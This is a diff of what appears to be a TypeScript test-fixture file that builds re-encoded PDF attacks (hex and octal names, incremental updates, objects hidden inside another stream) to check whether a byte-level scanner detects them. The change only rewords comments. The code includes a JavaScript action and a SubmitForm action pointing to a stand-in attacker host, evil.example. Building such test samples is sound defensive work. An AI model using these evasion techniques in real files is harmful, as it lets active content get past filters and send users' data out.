@@ -1,11 +1,11 @@
-// PDF attacks that are written in another encoding, so that a search of the bytes does not find them.
+// PDF attacks in other encodings, which a search of the raw bytes does not find.
 import { PDFString } from '@cantoo/pdf-lib';
 import { makePdf, pdfStream } from './documents.ts';
 import { addLink, makeEncryptedPdf, makePackedPdf } from './packed-pdf.ts';
 import type { Attack } from './reencoded-docx.ts';
 
 const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
-/** A page with this annotation, in place of the empty one. */
+/** Returns a PDF whose page has this annotation. */
 const withAnnotation = (annotation: string, more: readonly string[] = []) =>
   makePdf({ objects: ['<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [5 0 R] >>', annotation, ...more] });
 const link = (action: string, more: readonly string[] = []) =>
@@ -14,7 +14,7 @@ const hex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`
 const octal = (text: string) =>
   `(${[...text].map((letter) => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')})`;
 
-/** A second version of the page behind the end of the first file, as a program that only adds to a file writes it. */
+/** Returns a PDF with an incremental update: a second version of the page after the end of the first file. */
 function updated(object: string): Buffer {
   const first = makePdf();
   const start = first.lastIndexOf('startxref');
@@ -25,7 +25,7 @@ function updated(object: string): Buffer {
   return Buffer.concat([first, added, Buffer.from(end, 'latin1')]);
 }
 
-/** An object that only the table of offsets finds: its bytes are those of a stream of something else. */
+/** Returns a PDF with an object that only the offset table finds. Its bytes are inside a stream of another object. */
 function hidden(object: string): Buffer {
   const whole = makePdf({
     catalog: '/OpenAction 5 0 R',
@@ -167,5 +167,5 @@ const addresses = (): Attack[] => [
   { about: 'an object among the bytes of a stream', bytes: hidden('<< /S /SubmitForm /F (https://evil.example/) >>') },
 ];
 
-/** All re-encoded PDF attacks. */
+/** Returns all re-encoded PDF attacks. */
 export const pdfAttacks = (): Attack[] => [...names(), ...opened(), ...packed(), ...sealed(), ...addresses()];
